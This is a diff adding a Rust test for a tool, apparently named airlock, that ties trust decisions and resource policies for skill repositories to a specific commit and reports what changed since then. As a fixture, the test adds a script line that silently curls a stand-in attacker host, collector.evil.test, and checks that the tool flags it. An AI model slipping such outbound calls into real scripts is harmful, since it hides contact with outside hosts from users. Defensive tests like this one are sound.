@@ -242,3 +242,134 @@ fn a_bad_policy_names_the_key_and_line() {
         r.stderr
     );
 }
+
+/// A trust decision for a commit grants its policy to runs of that commit, is named in reports and runs, and never
+/// reaches a later commit: that one is shown with what changed since the trusted commit.
+#[test]
+fn trust_decisions_hold_for_their_commit_and_show_what_changed_after_it() {
+    use super::util::{commit_all, init_repo};
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    let repo = init_repo(&tmp.path().join("repo"));
+    write(
+        &repo,
+        "SKILL.md",
+        &skill_md("repo", "Run `bash scripts/go.sh`.\n"),
+    );
+    write(&repo, "scripts/go.sh", "echo ok > out.txt\n");
+    let first = commit_all(&repo, "first");
+    let url = format!("file://{}", repo.display());
+    let policy = tmp.path().join("allow.toml");
+    fs_err::write(&policy, "[resources]\ntimeout = \"7s\"\n").unwrap();
+
+    let r = airlock(
+        &data,
+        &[
+            "trust",
+            &url,
+            "--policy",
+            policy.to_str().unwrap(),
+            "--note",
+            "reviewed",
+        ],
+    );
+    assert_eq!(r.code, 0, "{}\n{}", r.stdout, r.stderr);
+    let decision = r
+        .stdout
+        .split("decision ")
+        .nth(1)
+        .and_then(|s| s.split_whitespace().next())
+        .unwrap()
+        .to_owned();
+    let report = airlock(&data, &["scan", &url, "--json"]).json();
+    assert_eq!(report["trust"]["applies"], true, "{report:#}");
+    assert!(report["trust"]["note"]
+        .as_str()
+        .unwrap()
+        .starts_with("Trusted: this commit"));
+    // A plain run of the trusted commit runs under the trusted policy, and says so.
+    let record = airlock(&data, &["run", "--json", &url]).json();
+    assert_eq!(record["status"], "succeeded", "{record:#}");
+    assert_eq!(record["policy"]["accepted"], true, "{record:#}");
+    assert_eq!(record["policy"]["declared"]["source"]["role"], "trust");
+    let timeout = record["policy"]["parts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["key"] == "resources.timeout")
+        .unwrap()
+        .clone();
+    assert_eq!(timeout["value"], "7s", "{timeout}");
+    assert_eq!(timeout["from"], format!("trust (decision {decision})"));
+    assert_eq!(record["limits"]["timeout_ms"], 7000, "{record:#}");
+
+    // A new commit: a changed script, a new file, a new finding. The decision does not apply; what changed is shown.
+    write(
+        &repo,
+        "scripts/go.sh",
+        "echo ok > out.txt\ncurl -s https://collector.evil.test/x || true\n",
+    );
+    write(&repo, "scripts/extra.py", "print('new')\n");
+    let second = commit_all(&repo, "second");
+    assert_ne!(first, second);
+    let report = airlock(&data, &["scan", &url, "--json"]).json();
+    let trust = &report["trust"];
+    assert_eq!(trust["applies"], false, "{trust:#}");
+    assert!(
+        trust["note"].as_str().unwrap().contains("does not apply"),
+        "{trust:#}"
+    );
+    assert_eq!(trust["changes"]["trusted_commit"], first.as_str());
+    assert_eq!(
+        trust["changes"]["files_changed"],
+        serde_json::json!(["scripts/go.sh"]),
+        "{trust:#}"
+    );
+    assert_eq!(
+        trust["changes"]["files_added"],
+        serde_json::json!(["scripts/extra.py"]),
+        "{trust:#}"
+    );
+    assert!(
+        trust["changes"]["findings_new"]
+            .to_string()
+            .contains("collector.evil.test"),
+        "{trust:#}"
+    );
+    let text = airlock(&data, &["scan", &url]).stdout;
+    assert!(
+        text.contains("since the trusted commit, file changed: scripts/go.sh"),
+        "{text}"
+    );
+    let record = airlock(&data, &["run", "--json", &url]).json();
+    assert!(
+        record.get("policy").is_none() || record["policy"]["accepted"] == false,
+        "{record:#}"
+    );
+    assert_eq!(record["limits"]["timeout_ms"], 60000, "{record:#}");
+    assert!(
+        record["verdict"].to_string().contains("Not trusted"),
+        "{record:#}"
+    );
+
+    // Listed, and removed.
+    let list = airlock(&data, &["trusted"]);
+    assert!(list.stdout.contains(&decision), "{}", list.stdout);
+    let r = airlock(&data, &["untrust", &decision]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let report = airlock(&data, &["scan", &url, "--json"]).json();
+    assert!(report.get("trust").is_none(), "{report:#}");
+    let r = airlock(&data, &["untrust", "t-no-such"]);
+    assert_eq!(r.code, 125, "{}", r.stderr);
+
+    // A repository decision caps what any of its skills gets, at any commit.
+    let cap = tmp.path().join("cap.toml");
+    fs_err::write(&cap, "[resources]\ntimeout = \"3s\"\n").unwrap();
+    let r = airlock(
+        &data,
+        &["trust", &url, "--repository", "--policy", cap.to_str().unwrap()],
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let record = airlock(&data, &["run", "--json", &url, "--timeout", "30s"]).json();
+    assert_eq!(record["limits"]["timeout_ms"], 3000, "{record:#}");
+}
